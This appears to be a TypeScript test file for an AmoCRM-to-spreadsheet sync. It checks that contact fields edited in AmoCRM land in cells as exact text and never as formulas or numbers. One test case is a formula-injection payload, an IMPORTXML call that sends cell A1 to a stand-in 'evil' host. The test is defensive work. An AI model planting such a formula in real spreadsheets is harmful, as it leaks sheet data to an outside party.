// Values from AmoCRM are data: whatever a manager (or an attacker with an AmoCRM login) types
// into a contact lands in the cell as that exact text — never a formula, never a number.
import { col, contactIdOf, SHEET, World, worldWithRows } from './pull-helpers';

const ANN = { name: 'Ann Lee', phone: '8 912 345-67-89', email: 'ann@example.com', budget: 1000 };

let w: World;

afterEach(async () => {
  await w?.stop();
});

function cell(header: string) {
  return w.rt.spreadsheet.cell(SHEET, 2, col(header));
}

const CASES: Array<[string, { name: string; phone: string }]> = [
  ['a formula', { name: '=IMPORTXML("http://evil/?"&A1, "//a")', phone: '+79990001122' }],
  ['a number-like name and a bare phone', { name: '+79123456789', phone: '89990001122' }],
  ['an @-name and a formatted phone', { name: '@x', phone: '+7 (999) 000-11-22' }],
  ['a minus-name and a TRUE phone', { name: '-1', phone: 'TRUE' }],
];

describe.each([
  ['by webhook', async () => void w.nextMinute()],
  [
    'by syncNow while webhooks were lost',
    async () => {
      w.rt.clock.advance(60_000);
      w.run('syncNow');
    },
  ],
])('a contact edited in AmoCRM reaches the sheet %s', (how, deliver) => {
  it.each(CASES)('%s lands as the exact text', async (_, typed) => {
    w = await worldWithRows([ANN]);
    if (how !== 'by webhook') await w.fake.admin.setWebhookDelivery(false);
    await w.fake.admin.editContact({ contactId: contactIdOf(w, 0), ...typed, now: w.now() });
    await deliver();

    const [name, phone] = [cell('name'), cell('phone')];
    expect([name.value, name.formula]).toEqual([typed.name, '']);
    expect([phone.value, phone.formula]).toEqual([typed.phone, '']);
    expect(w.row(0).budget).toBe(1000);
  });
});
